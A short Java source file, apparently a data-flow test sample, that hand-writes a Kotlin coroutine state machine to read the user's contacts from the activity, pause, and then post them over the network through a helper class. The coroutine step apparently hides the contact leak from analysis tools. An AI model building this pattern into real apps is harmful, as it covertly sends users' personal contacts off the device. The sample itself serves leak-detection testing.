package com.example.flows.coroutine;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.net.wifi.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

public final class Work extends kotlin.coroutines.jvm.internal.SuspendLambda
        implements kotlin.jvm.functions.Function2<Object, Object, Object> {
    private final MainActivity activity;
    private Object saved;
    private int label;

    Work(MainActivity activity) {
        super(2, null);
        this.activity = activity;
    }

    @Override
    public Object invokeSuspend(Object result) {
        switch (label) {
            case 0:
                label = 1;
                saved = activity.contacts();
                Object pause = kotlinx.coroutines.DelayKt.delay(10L, this);
                if (pause == kotlin.coroutines.intrinsics.IntrinsicsKt.getCOROUTINE_SUSPENDED()) {
                    return pause;
                }
                break;
            case 1:
                break;
            default:
                throw new IllegalStateException();
        }
        Net.post((String) saved);
        return null;
    }

    @Override
    public Object invoke(Object scope, Object next) {
        return invokeSuspend(null);
    }
}
